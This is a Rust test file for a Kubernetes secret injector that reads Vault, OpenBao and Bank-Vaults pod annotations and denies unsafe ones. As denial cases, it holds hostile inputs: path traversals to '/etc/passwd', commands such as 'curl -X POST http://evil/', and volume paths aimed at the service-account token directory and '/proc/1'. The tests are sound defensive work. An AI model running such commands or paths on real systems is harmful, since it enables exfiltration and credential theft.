//! Pods in another injector's words, and what they come to.

use std::collections::BTreeSet;

use serde_json::{Map, Value, json};

use super::super::pod::Pod;
use super::table::{Fate, find};
use super::translation::TlsSecret;
use super::*;
use crate::config::{DIALECT_PREFIXES, Text};
use crate::domain::Mode;

const CONFIG: &str = "image: i:1\nvault: { address: \"https://v\" }\nallowAddresses: [\"https://other\"]\n\
                      dialects: [vault, openbao, bank-vaults]\n";

fn injector() -> Injector {
    Injector::parse(Text { name: "i", text: CONFIG }).unwrap()
}

fn pod_with(prefix: &str, annotations: &[(&str, &str)], spec: Value) -> Value {
    let annotations: Map<String, Value> =
        annotations.iter().map(|(key, value)| (format!("{prefix}{key}"), json!(value))).collect();
    json!({ "metadata": { "annotations": annotations }, "spec": spec })
}

fn one_app() -> Value {
    json!({ "containers": [{ "name": "app", "command": ["/app"] }] })
}

fn translate(pod: &Value) -> Result<Option<Translation>, Denial> {
    let injector = injector();
    read(&Pod::read(pod, &injector.dialects).unwrap(), &injector, &mut Vec::new())
}

/// A pod of Vault's injector with these annotations beside `agent-inject` and `role`.
fn vault(annotations: &[(&str, &str)]) -> Result<Translation, Denial> {
    vault_in(annotations, one_app())
}

fn vault_in(annotations: &[(&str, &str)], spec: Value) -> Result<Translation, Denial> {
    let all: Vec<(&str, &str)> =
        [("agent-inject", "true"), ("role", "web")].into_iter().chain(annotations.iter().copied()).collect();
    translate(&pod_with("vault.hashicorp.com/", &all, spec)).map(|found| found.expect("it asks"))
}

fn said(made: &Translation) -> Vec<String> {
    made.settings.iter().map(|setting| format!("{}={}", setting.path.join("."), setting.values.join(","))).collect()
}

fn denial(annotations: &[(&str, &str)]) -> String {
    vault(annotations).expect_err("it is denied").join("; ")
}

const MAP: &str = "{{ with secret \"a/b\" }}{{ range $k, $v := .Data }}{{ $k }}: {{ $v }}\n{{ end }}{{ end }}";
const JSON: &str = "{{ with secret \"a/b\" }}{{ .Data | toJSON }}\n{{ end }}";

#[test]
fn agent_inject_alone_asks_in_the_words_of_go() {
    for (value, expected) in
        [("true", true), ("1", true), ("T", true), ("TRUE", true), ("false", false), ("0", false), ("", false)]
    {
        let pod =
            pod_with("vault.hashicorp.com/", &[("agent-inject", value), ("agent-inject-secret-a", "x")], one_app());
        assert_eq!(translate(&pod).unwrap().is_some(), expected, "{value}");
    }
    for value in ["tRuE", "yes", "on", " true"] {
        let pod = pod_with("vault.hashicorp.com/", &[("agent-inject", value)], one_app());
        assert_eq!(
            translate(&pod).unwrap_err(),
            ["annotation vault.hashicorp.com/agent-inject: expected \"true\" or \"false\""]
        );
    }
    let pod = pod_with("vault.hashicorp.com/", &[("agent-inject-secret-a", "x"), ("role", "web")], one_app());
    assert!(translate(&pod).unwrap().is_none(), "no other key asks");
}

#[test]
fn a_pod_that_another_injector_was_in_is_left_alone_until_it_has_ours() {
    let annotations = [("agent-inject", "true"), ("agent-inject-status", "injected")];
    let pod = |spec| pod_with("vault.hashicorp.com/", &annotations, spec);
    assert!(translate(&pod(one_app())).unwrap().is_none());
    let own = json!({ "containers": [{ "name": "app" }], "initContainers": [{ "name": "secret-exec" }] });
    assert!(translate(&pod(own)).unwrap().is_some());
}

#[test]
fn both_prefixes_are_read_and_never_in_one_pod() {
    for prefix in ["vault.hashicorp.com/", "openbao.org/"] {
        let pod = pod_with(prefix, &[("agent-inject", "true"), ("role", "web")], one_app());
        assert!(said(&translate(&pod).unwrap().unwrap()).contains(&"vault.auth.role=web".to_owned()));
    }
    let mut pod = pod_with("vault.hashicorp.com/", &[("agent-inject", "true")], one_app());
    for other in ["openbao.org/agent-inject", "vault.security.banzaicloud.io/vault-role"] {
        pod["metadata"]["annotations"] = json!({ "vault.hashicorp.com/agent-inject": "true", other: "true" });
        let text = translate(&pod).unwrap_err().join("; ");
        assert!(text.contains("in one pod; keep those of one injector"), "{text}");
    }
}

#[test]
fn keys_of_the_other_prefix_are_not_passed_over() {
    let mut pod =
        pod_with("vault.hashicorp.com/", &[("agent-inject", "true"), ("agent-inject-secret-a", "a/b")], one_app());
    pod["metadata"]["annotations"]["openbao.org/role"] = json!("web");
    let text = translate(&pod).expect_err("it is denied").join("; ");
    assert!(text.contains("annotations of openbao.org/ and of vault.hashicorp.com/ in one pod"), "{text}");
}

/// Messages to an author of other annotations name no annotation of this project.
#[test]
fn what_is_wrong_is_said_in_the_words_of_the_pod() {
    for (prefix, annotations, expected) in [
        ("vault.hashicorp.com/", &[("agent-inject-secret-a", "a/b")][..], "say it with vault.hashicorp.com/role"),
        ("openbao.org/", &[("role", "web")], "say at least one openbao.org/agent-inject-secret-NAME"),
        (
            "vault.hashicorp.com/",
            &[("role", "web"), ("agent-inject-secret-a", "a/b"), ("agent-inject-command-a", "pkill -HUP nginx")],
            "annotation vault.hashicorp.com/agent-inject-command-NAME: a signal reaches processes of the same user only; say which \
             with vault.hashicorp.com/agent-run-as-user",
        ),
    ] {
        let all: Vec<_> = [("agent-inject", "true")].into_iter().chain(annotations.iter().copied()).collect();
        let text = injected(&pod_with(prefix, &all, one_app())).expect_err("it is denied").join("; ");
        assert!(text.contains(expected), "{text}");
    }
}

#[test]
fn no_pod_of_the_system_gets_anything() {
    for namespace in ["kube-system", "kube-public"] {
        let mut pod = pod_with("vault.hashicorp.com/", &[("agent-inject", "true")], one_app());
        pod["metadata"]["namespace"] = json!(namespace);
        assert!(translate(&pod).unwrap_err()[0].contains(namespace));
    }
}

#[test]
fn files_have_their_default_templates_names_and_places() {
    let made = vault(&[("agent-inject-secret-DB.Env", "a/b")]).unwrap();
    assert!(said(&made).contains(&format!("files.db.env.template={MAP}")), "{:?}", said(&made));
    assert_eq!(made.directories, ["/vault/secrets"]);
    let made = vault(&[
        ("agent-inject-secret-Db", "a/b"),
        ("agent-inject-default-template", "JSON"),
        ("preserve-secret-case", "true"),
    ]);
    assert!(said(&made.unwrap()).contains(&format!("files.Db.template={JSON}")));
    let made = vault(&[
        ("agent-inject-secret-Db", "a/b"),
        ("preserve-secret-case-Db", "true"),
        ("preserve-secret-case", "false"),
    ]);
    assert!(said(&made.unwrap()).contains(&format!("files.Db.template={MAP}")));
    let made = vault(&[
        ("agent-inject-template-x", "{{ 1 }}"),
        ("agent-inject-file-x", "/conf//x.ini"),
        ("agent-inject-secret-x", "a/b"),
    ]);
    assert!(said(&made.unwrap()).contains(&"files.conf/x.ini.template={{ 1 }}".to_owned()));
    let made = vault(&[("agent-inject-secret-x", " "), ("agent-inject-secret-y", "a/b")]);
    assert!(said(&made.unwrap()).iter().all(|text| !text.starts_with("files.x")));
}

#[test]
fn several_volume_paths_are_folders_of_one_volume() {
    let made = vault(&[
        ("agent-inject-secret-a", "a/b"),
        ("agent-inject-secret-b", "a/b"),
        ("secret-volume-path-b", "/etc/app/"),
        ("agent-inject-token", "true"),
    ])
    .unwrap();
    assert_eq!(made.directories, ["/vault/secrets", "/etc/app"]);
    let said = said(&made);
    for expected in [
        format!("files.0/a.template={MAP}"),
        format!("files.1/b.template={MAP}"),
        "files.0/token.from=vault:auth/token/lookup-self#id".to_owned(),
    ] {
        assert!(said.contains(&expected), "{expected}: {said:?}");
    }
}

#[test]
fn a_mode_never_lets_everybody_in() {
    for (perms, mode, warns) in [
        ("0644", "0640", true),
        ("0640", "0640", false),
        ("0600", "0600", false),
        ("0400", "0400", false),
        ("755", "0640", true),
        ("0444", "0440", true),
    ] {
        let made = vault(&[("agent-inject-secret-a", "a/b"), ("agent-inject-perms-a", perms)]).unwrap();
        assert!(said(&made).contains(&format!("files.a.mode={mode}")), "{perms}: {:?}", said(&made));
        assert_eq!(!made.warnings.is_empty(), warns, "{perms}: {:?}", made.warnings);
    }
}

#[test]
fn the_containers_are_theirs() {
    let spec = || {
        json!({
            "containers": [{ "name": "a" }, { "name": "b" }],
            "initContainers": [{ "name": "first", "restartPolicy": "Always" }, { "name": "migrate" }],
        })
    };
    let names = |made: Translation| made.containers.unwrap().into_iter().collect::<Vec<_>>();
    assert_eq!(names(vault_in(&[], spec()).unwrap()), ["a", "b", "migrate"]);
    assert_eq!(names(vault_in(&[("agent-inject-containers", "b,x, a")], spec()).unwrap()), ["b", "migrate"]);
    assert_eq!(names(vault_in(&[("agent-pre-populate", "false")], spec()).unwrap()), ["a", "b"]);
}

#[test]
fn modes_users_resources_and_times_are_honoured() {
    let made = vault(&[("agent-pre-populate-only", "true"), ("agent-inject-token", "true")]).unwrap();
    assert_eq!(made.mode, Some(Mode::Init));
    assert!(said(&made).contains(&"leaveLeases=true".to_owned()));
    assert_eq!(vault(&[("agent-run-as-user", "1001")]).unwrap().user, Some((1001, 1000)));
    let same = json!({ "containers": [{ "name": "app", "securityContext": { "runAsUser": 2000 } }] });
    assert_eq!(vault_in(&[("agent-run-as-same-user", "true")], same).unwrap().user, Some((2000, 1000)));
    let made = vault(&[("agent-limits-mem", "64Mi"), ("agent-limits-cpu", "2m"), ("agent-requests-ephemeral", "1Gi")])
        .unwrap();
    let resources = made.resources.unwrap();
    assert_eq!(resources.limits["memory"], "64Mi");
    assert_eq!((&*resources.requests["cpu"], &*resources.requests["ephemeral-storage"]), ("2m", "1Gi"));
    let text = denial(&[("agent-requests-cpu", "100m"), ("agent-limits-cpu", "10m")]);
    assert!(text.contains("agent-requests-cpu: it is more than agent-limits-cpu (10m)"), "{text}");
    let resources = vault(&[("agent-requests-mem", "64Mi")]).unwrap().resources.unwrap();
    assert_eq!((&*resources.requests["memory"], &*resources.limits["memory"]), ("64Mi", "64Mi"));
    let made = vault(&[
        ("template-static-secret-render-interval", "90s"),
        ("agent-revoke-on-shutdown", "true"),
        ("agent-revoke-grace", "10"),
        ("template-lease-renewal-threshold", "0.5"),
        ("log-level", "WARNING"),
        ("log-format", "standard"),
    ])
    .unwrap();
    for expected in ["refresh.vault=90s", "revokeDelay=10s", "renewal.at=50%", "logLevel=warn", "logFormat=text"] {
        assert!(said(&made).contains(&expected.to_owned()), "{expected}: {:?}", said(&made));
    }
}

#[test]
fn the_login_is_read() {
    let made = vault(&[
        ("auth-path", "auth/k8s/"),
        ("service", "https://other"),
        ("namespace", "team/"),
        ("auth-config-token-path", "/x"),
        ("auth-config-region", "eu-west-1"),
    ])
    .unwrap();
    for expected in [
        "vault.auth.role=web",
        "vault.auth.mount=k8s",
        "vault.address=https://other",
        "vault.namespace=team",
        "vault.auth.region=eu-west-1",
    ] {
        assert!(said(&made).contains(&expected.to_owned()), "{expected}: {:?}", said(&made));
    }
    assert!(made.warnings[0].contains("auth-config-token-path: ignored"), "{:?}", made.warnings);
}

#[test]
fn files_of_a_tls_secret_are_mounted_and_nothing_else_is() {
    let made = vault(&[("tls-secret", "vault-tls"), ("ca-cert", "/vault/tls/ca.crt")]).unwrap();
    assert_eq!(made.tls, Some(TlsSecret { name: "vault-tls".into(), keys: BTreeSet::from(["ca.crt".to_owned()]) }));
    assert_eq!(made.operator, [("vault.caFile".to_owned(), "/run/secret-exec-tls/ca.crt".to_owned())]);
    for path in ["/vault/tls/../../etc/passwd", "/vault/tls/..data", "/etc/ssl/ca.pem", "/vault/tls/", "/vault/tls/a/b"]
    {
        let text = denial(&[("tls-secret", "vault-tls"), ("ca-cert", path)]);
        assert!(text.contains("ca-cert: the injected container has no such file"), "{path}: {text}");
    }
}

#[test]
fn what_their_injector_denies_is_denied() {
    for (key, value) in [
        ("agent-inject-token", "tRuE"),
        ("agent-pre-populate", "maybe"),
        ("agent-init-first", "2"),
        ("agent-limits-cpu", "lots"),
        ("agent-requests-mem", "64 Mi"),
        ("agent-limits-ephemeral", "-"),
        ("agent-revoke-grace", "-5"),
        ("agent-revoke-grace", "5s"),
        ("auth-min-backoff", "soon"),
        ("auth-max-backoff", "1 minute"),
        ("agent-run-as-user", "root"),
        ("agent-run-as-user", "0"),
        ("agent-run-as-same-user", "true"),
        ("agent-inject-default-template", "yaml"),
        ("template-max-connections-per-host", "many"),
        ("template-lease-renewal-threshold", "one-third"),
        ("template-static-secret-render-interval", "often"),
        ("agent-inject-perms-a", "rw-r--r--"),
        ("agent-inject-file-a", "../../etc/passwd"),
        ("secret-volume-path", "relative"),
        ("secret-volume-path-a", "/a/../b"),
        ("agent-cache-enable", "true"),
        ("agent-configmap", "agent"),
        ("agent-extra-secret", "s"),
        ("agent-json-patch", "[]"),
        ("agent-inject-template-file-a", "/a.ctmpl"),
        ("agent-inject-command-a", "cp /vault/secrets/a /b"),
        ("log-format", "xml"),
    ] {
        let text = denial(&[("agent-inject-secret-a", "a/b"), (key, value)]);
        assert!(text.contains(key), "{key}: {text}");
        assert!(!text.contains("passwd"), "{text}");
    }
}

#[test]
fn a_command_that_only_changes_the_mode_of_its_file_is_its_mode() {
    let file = [("agent-inject-secret-a", "a/b"), ("agent-inject-perms-a", "0640")];
    let with = |command: &str| {
        let all = [file[0], file[1], ("secret-volume-path", "/x"), ("agent-inject-command-a", command)];
        vault(&all)
            .map(|made| said(&made).into_iter().filter(|text| text.starts_with("files.a.mode")).collect::<Vec<_>>())
    };
    assert_eq!(with("chmod 0400 /x/a").unwrap(), ["files.a.mode=0400"]);
    assert_eq!(with("sh -c 'chmod 644 /x/a'").unwrap(), ["files.a.mode=0640"]);
    for command in ["chmod 0400 /x/b", "chmod 0400 /x", "chmod 0040 /x/a", "chmod 99999 /x/a"] {
        let text = with(command).unwrap_err().join("; ");
        assert!(text.contains("agent-inject-command-a: "), "{command}: {text}");
    }
}

#[test]
fn commands_that_reached_no_app_are_ignored_with_a_warning() {
    let file = ("agent-inject-secret-a", "a/b");
    let ignored = |all: &[(&str, &str)]| {
        let made = vault(all).unwrap();
        assert!(!said(&made).iter().any(|text| text.starts_with("onChange")), "{:?}", said(&made));
        let of = "annotation vault.hashicorp.com/agent-inject-command-a: ignored: ";
        assert!(made.warnings.iter().any(|text| text.starts_with(of)), "{:?}", made.warnings);
    };
    ignored(&[file, ("agent-inject-command-a", "kill -HUP 1")]);
    ignored(&[file, ("agent-pre-populate-only", "true"), ("agent-inject-command-a", "kill -HUP $(pidof nginx)")]);
}

#[test]
fn every_key_is_honoured_ignored_or_denied() {
    for row in vault::keys::KEYS {
        let key = row.name.replace("NAME", "a");
        let (found, _) = find(vault::keys::KEYS, &key).expect("a key finds its row");
        assert_eq!(found.name, row.name, "{key}");
        let value = match row.value {
            super::table::Value::Any => "x",
            super::table::Value::Bool => "true",
            super::table::Value::Integer | super::table::Value::Count => "1001",
            super::table::Value::Quantity => "64Mi",
            super::table::Value::Duration => "5m",
        };
        let said = vault(&[("agent-inject-secret-b", "a/b"), (&key, value)]);
        let whole = format!("annotation vault.hashicorp.com/{key}: ");
        match row.fate {
            Fate::Honoured(_) => {}
            Fate::Ignored(why) => {
                let warnings = said.unwrap().warnings;
                assert!(warnings.contains(&format!("{whole}ignored: {why}")), "{key}: {warnings:?}");
            }
            Fate::Denied(why) => assert!(said.unwrap_err().contains(&format!("{whole}{why}")), "{key}"),
        }
    }
    let made = vault(&[("agent-inject-secret-a", "a/b"), ("agent-inject-secrets-b", "a/b"), ("rol", "web")]).unwrap();
    assert!(made.warnings[1].contains("did you mean vault.hashicorp.com/role?"), "{:?}", made.warnings);
}

#[test]
fn bank_vaults_wraps_what_has_references() {
    let spec = json!({
        "serviceAccountName": "web",
        "containers": [
            { "name": "a", "command": ["/a"], "env": [{ "name": "DB", "value": "pg://${vault:a/b#u}@db" }] },
            { "name": "b", "command": ["/b"], "env": [{ "name": "X", "value": "plain" }] },
            { "name": "c", "command": ["/c"], "envFrom": [{ "configMapRef": { "name": "c" } }] },
        ],
    });
    let pod = |annotations: &[(&str, &str)]| pod_with("vault.security.banzaicloud.io/", annotations, spec.clone());
    let made = translate(&pod(&[("vault-addr", "https://other"), ("vault-skip-verify", "true")])).unwrap().unwrap();
    assert_eq!(made.mode, Some(Mode::Exec));
    assert_eq!(made.containers, Some(BTreeSet::from(["a".to_owned(), "c".to_owned()])));
    for expected in ["vault.auth.role=web", "inherit=bank-vaults", "vault.address=https://other"] {
        assert!(said(&made).contains(&expected.to_owned()), "{:?}", said(&made));
    }
    assert!(made.warnings[0].contains("certificates are verified"), "{:?}", made.warnings);
    let made =
        translate(&pod(&[("vault-env-daemon", "true"), ("vault-env-from-path", "a/b,c/d#2"), ("vault-role", "r")]));
    let made = made.unwrap().unwrap();
    assert_eq!(made.mode, Some(Mode::Supervise));
    assert!(said(&made).contains(&"envFrom.[].from=vault:a/b,vault:c/d?version=2".to_owned()), "{:?}", said(&made));
    assert!(translate(&pod(&[("mutate", "skip"), ("vault-role", "r")])).unwrap().is_none());
    assert!(translate(&pod(&[("vault-agent-configmap", "x")])).is_err());
}

#[test]
fn the_token_of_the_login_keeps_us_beside_the_app() {
    let pod = |name: &str, value: &str, more: (&str, &str)| {
        let env = json!([{ "name": name, "value": value }, { "name": "DB", "value": "vault:a/b#c" }]);
        let spec = json!({ "containers": [{ "name": "app", "command": ["/a"], "env": env }] });
        pod_with("vault.security.banzaicloud.io/", &[("vault-role", "web"), more], spec)
    };
    let none = ("vault-env-delay", "");
    for (name, value, more, mode, warnings) in [
        ("VAULT_TOKEN", "vault:login", none, Mode::Supervise, 1),
        ("BAO_TOKEN", "bao:login", none, Mode::Supervise, 1),
        ("X", "a ${vault:login}", none, Mode::Supervise, 1),
        ("VAULT_TOKEN", "vault:login", ("vault-env-daemon", "true"), Mode::Supervise, 0),
        ("X", "vault:a/login#b", none, Mode::Exec, 0),
        ("X", "plain", ("mutate-containers", "app,ap"), Mode::Exec, 1),
    ] {
        let pod = pod(name, value, more);
        let made = translate(&pod).unwrap().unwrap();
        assert_eq!((made.mode, made.warnings.len()), (Some(mode), warnings), "{name}={value}: {:?}", made.warnings);
        assert!(injected(&pod).is_ok(), "{name}={value}");
    }
    let denial = injected(&pod("VAULT_TOKEN", "s.canary", none)).unwrap_err().join("; ");
    assert!(denial.contains("the variable VAULT_TOKEN") && !denial.contains("canary"), "{denial}");
}

#[test]
fn nothing_of_a_dialect_counts_unless_the_operator_says_so() {
    let quiet = Injector::parse(Text { name: "i", text: "image: i:1\nvault: { address: \"https://v\" }\n" }).unwrap();
    for prefix in DIALECT_PREFIXES {
        let pod = pod_with(prefix, &[("agent-inject", "true"), ("agent-inject-secret-a", "x")], one_app());
        assert_eq!(super::super::inject::inject(&pod, &quiet), Ok(super::super::inject::Injected::default()));
    }
}

#[test]
fn ten_thousand_annotations_are_refused() {
    let many: Vec<(String, &str)> = (0..10_000).map(|n| (format!("agent-inject-secret-{n}"), "a/b")).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(key, value)| (key.as_str(), *value)).collect();
    let text = denial(&many);
    assert!(text.contains("expected at most 1000"), "{text}");
}

/// The pod with what injection adds, and its warnings.
fn injected(pod: &Value) -> Result<(Value, Vec<String>), Denial> {
    let done = super::super::inject::inject(pod, &injector())?;
    let mut after = pod.clone();
    super::super::patch::apply(&mut after, &done.ops);
    Ok((after, done.warnings))
}

#[test]
fn injecting_into_an_injected_pod_changes_nothing() {
    let token = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true")];
    let with = |more: &[(&'static str, &'static str)]| {
        let all: Vec<_> = token.iter().chain(more).copied().collect();
        pod_with("vault.hashicorp.com/", &all, one_app())
    };
    let bank = json!({ "containers": [{
        "name": "app", "command": ["/app"], "env": [{ "name": "DB", "value": "pg://${vault:a/b#u}@db" }],
    }] });
    for pod in [
        with(&[]),
        with(&[("secret-volume-path", "/etc/app")]),
        with(&[("agent-pre-populate-only", "true")]),
        with(&[("agent-run-as-user", "1001"), ("agent-share-process-namespace", "true")]),
        with(&[("tls-secret", "vault-tls"), ("ca-cert", "/vault/tls/ca.crt")]),
        with(&[("agent-limits-mem", "64Mi"), ("agent-requests-cpu", "10m")]),
        pod_with("vault.security.banzaicloud.io/", &[("vault-role", "web")], bank),
    ] {
        let (once, _) = injected(&pod).unwrap_or_else(|denial| panic!("{pod}: {denial:?}"));
        assert_ne!(once, pod);
        let (twice, _) = injected(&once).unwrap_or_else(|denial| panic!("{once}: {denial:?}"));
        assert_eq!(once, twice);
    }
}

#[test]
fn the_secret_of_an_injected_volume_cannot_be_another() {
    let all =
        [("agent-inject", "true"), ("role", "web"), ("tls-secret", "vault-tls"), ("ca-cert", "/vault/tls/ca.crt")];
    let (pod, _) = injected(&pod_with(
        "vault.hashicorp.com/",
        &[&all[..], &[("agent-inject-secret-db", "a/b")]].concat(),
        one_app(),
    ))
    .unwrap();
    let volumes = pod["spec"]["volumes"].as_array().unwrap();
    let index = volumes.iter().position(|volume| volume["name"] == "secret-exec-tls").unwrap();
    for (member, value, is_refused) in [
        ("secretName", json!("other"), true),
        ("items", json!([{ "key": "other.crt", "path": "ca.crt" }]), true),
        ("defaultMode", json!(420), false),
    ] {
        let mut edited = pod.clone();
        edited["spec"]["volumes"][index]["secret"][member] = value;
        assert_eq!(injected(&edited).is_err(), is_refused, "{member}");
    }
}

#[test]
fn a_token_stands_where_theirs_does() {
    let all =
        [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), ("agent-run-as-user", "1001")];
    let (pod, _) = injected(&pod_with("vault.hashicorp.com/", &all, one_app())).unwrap();
    let mounts = &pod["spec"]["containers"][0]["volumeMounts"];
    let expected = json!([
        { "name": "secret-exec", "mountPath": "/run/secret-exec", "readOnly": true },
        { "name": "secret-exec", "mountPath": "/vault/secrets", "subPath": "files", "readOnly": true },
    ]);
    assert_eq!(*mounts, expected);
    let own = &pod["spec"]["initContainers"][0];
    assert_eq!(own["securityContext"]["runAsUser"], 1001);
    let args: Vec<&str> = own["args"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(args.contains(&"token=vault:auth/token/lookup-self#id"), "{args:?}");
    assert!(args.contains(&"vault.auth.role=web"), "{args:?}");
}

#[test]
fn annotations_of_ours_win_with_a_warning() {
    let mut pod = pod_with(
        "vault.hashicorp.com/",
        &[("agent-inject", "true"), ("role", "theirs"), ("agent-inject-token", "true")],
        one_app(),
    );
    pod["metadata"]["annotations"]["secret-exec.dev/vault-role"] = json!("ours");
    let (after, warnings) = injected(&pod).unwrap();
    assert!(warnings[0].contains("secret-exec.dev/ wins"), "{warnings:?}");
    let args = after["spec"]["initContainers"][0]["args"].to_string();
    assert!(args.contains("vault.auth.role=ours") && !args.contains("theirs"), "{args}");
    pod["metadata"]["annotations"]["secret-exec.dev/inject"] = json!("false");
    assert_eq!(injected(&pod).unwrap().0, pod);
}

#[test]
fn nothing_that_ours_may_not_do_is_done() {
    for (key, value, text) in [
        ("service", "https://evil", "the operator does not allow this address"),
        ("auth-type", "approle", "expected kubernetes, jwt or aws"),
        ("agent-inject-command-a", "sh -c 'curl evil'", "runs no command"),
        ("agent-inject-command-a", "curl -X POST http://evil/", "runs no command"),
        ("secret-volume-path", "/run/secret-exec", "expected another path"),
        ("secret-volume-path", "/run/secret-exec-state", "expected another path"),
        ("secret-volume-path", "/proc/1", "expected another path"),
        ("secret-volume-path", "/var/run/secrets/kubernetes.io/serviceaccount", "expected another path"),
    ] {
        let all = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), (key, value)];
        let text_of = injected(&pod_with("vault.hashicorp.com/", &all, one_app()));
        let denial = text_of.map(|(pod, _)| pod).expect_err(key).join("; ");
        assert!(denial.contains(text), "{key}: {denial}");
    }
    for key in ["tls-skip-verify", "tls-server-name", "proxy-address"] {
        let all = [("agent-inject", "true"), ("role", "web"), ("agent-inject-token", "true"), (key, "true")];
        let (pod, warnings) = injected(&pod_with("vault.hashicorp.com/", &all, one_app())).unwrap();
        assert!(warnings.iter().any(|text| text.contains(key)), "{warnings:?}");
        let args = pod["spec"]["initContainers"][0]["args"].to_string();
        assert!(!args.contains("skipVerify") && !args.contains("tlsServerName") && !args.contains("proxy"), "{args}");
    }
}

#[test]
fn files_are_go_templates_by_themselves_and_denied_where_they_are_malformed() {
    let injected_with = |annotations: &[(&str, &str)]| {
        let all: Vec<(&str, &str)> =
            [("agent-inject", "true"), ("role", "web")].into_iter().chain(annotations.iter().copied()).collect();
        injected(&pod_with("vault.hashicorp.com/", &all, one_app()))
    };
    let (pod, _) = injected_with(&[("agent-inject-secret-db", "a/b")]).unwrap();
    let args = pod["spec"]["initContainers"][0]["args"].to_string();
    assert!(args.contains("files.db.language=go"), "{args}");
    for (text, expected) in [
        ("x\n{{ with secret \"a/b\" }}", "template c:2:4: unexpected EOF: this has no {{end}}"),
        ("{{ nope }}", "template c:1:4: function \"nope\" not defined"),
        ("{{ env \"HOME\" }}", "template c:1:4: function \"env\" is refused"),
        ("{{ secret (env) }}", "template c:1:12: function \"env\" is refused"),
        ("{{ secret \"a/../../b\" }}", "template c:1:4: secret: "),
    ] {
        let denial = injected_with(&[("agent-inject-template-c", text)]).unwrap_err().join("; ");
        let place = "annotation vault.hashicorp.com/agent-inject-template-c: ";
        assert!(denial.contains(place) && denial.contains(expected), "{text}: {denial}");
    }
    // Its delimiters apply, and an annotation of this project in its place is a Jinja template again.
    let (pod, _) = injected_with(&[
        ("agent-inject-template-c", "<% secret \"a/b\" %>"),
        ("agent-template-left-delim-c", "<%"),
        ("agent-template-right-delim-c", "%>"),
    ])
    .unwrap();
    let args = pod["spec"]["initContainers"][0]["args"].to_string();
    assert!(args.contains("files.c.leftDelimiter=<%"), "{args}");
    let mut both = pod_with(
        "vault.hashicorp.com/",
        &[("agent-inject", "true"), ("role", "web"), ("agent-inject-secret-db", "a/b")],
        one_app(),
    );
    both["metadata"]["annotations"]["secret-exec.dev/template.db"] = json!("{{ secret('vault:a/b').c }}");
    let args = injected(&both).unwrap().0["spec"]["initContainers"][0]["args"].to_string();
    assert!(!args.contains("language") && args.contains("secret('vault:a/b').c"), "{args}");
}

#[test]
fn the_namespace_of_a_request_counts() {
    let pod = pod_with("vault.hashicorp.com/", &[("agent-inject", "true"), ("role", "web")], one_app());
    let done = super::super::inject::inject_into(&pod, Some("kube-system"), &injector());
    assert!(done.unwrap_err()[0].contains("kube-system"));
}

#[test]
fn a_pod_without_files_is_told_which_annotation_was_meant() {
    for (key, value, expected) in [
        (
            "agent-inject-secrt-a",
            "a/b",
            "agent-inject-secrt-a: unknown; did you mean vault.hashicorp.com/agent-inject-secret-a?",
        ),
        ("agent-inject-secret-a", "", "agent-inject-secret-a: is empty; expected the path of a secret"),
        ("agent-inject-secret-", "a/b", "agent-inject-secret-: expected a name behind it"),
        ("agent-inject-secret", "a/b", "agent-inject-secret: expected a name behind it"),
        ("agent-inject-secret-a", "vault:a/b#k", "agent-inject-secret-a: expected a path alone"),
        ("agent-inject-containers", "nope", "agent-inject-containers: names no container of this pod, which has app"),
    ] {
        let text = denial(&[(key, value)]);
        assert!(text.contains(expected), "{key}: {text}");
    }
}
